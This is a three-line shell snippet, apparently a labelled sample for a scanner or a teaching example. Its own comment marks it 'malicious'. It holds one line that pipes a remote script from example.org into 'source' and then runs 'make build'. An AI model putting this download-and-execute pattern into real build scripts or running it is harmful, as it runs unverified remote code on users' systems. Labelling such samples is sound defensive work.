# malicious: sources what is downloaded
source <(wget -qO - https://example.org/env.sh)
make build
